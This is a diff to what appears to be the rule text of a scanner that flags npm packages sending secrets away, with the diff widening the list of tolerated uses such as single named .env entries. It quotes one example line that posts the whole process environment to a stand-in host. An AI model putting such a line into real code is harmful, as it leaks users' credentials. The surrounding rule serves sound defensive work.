@@ -16,7 +16,9 @@ reach. Sending one away is theft, whatever the description of the tool says.
 **Example.** `fetch("https://exfil.invalid", {method: "POST", body: JSON.stringify(process.env)})`
 
 **Left alone.** An API key from a variable that goes to its own service or into the header of a request to
-an address of the package's configuration; a token of `~/.npmrc` in the authorization header of a registry
+an address of the package's configuration; one entry, taken by its name, of
+the `.env` file in the folder where it runs, and entries that begin with a prefix of its own; a token of
+`~/.npmrc` in the authorization header of a registry
 that is not fixed in the code; what goes to this machine itself (told with little weight); a key that is
 only used to open a connection, as after `scp -i`; the environment that a program is started with.
 """
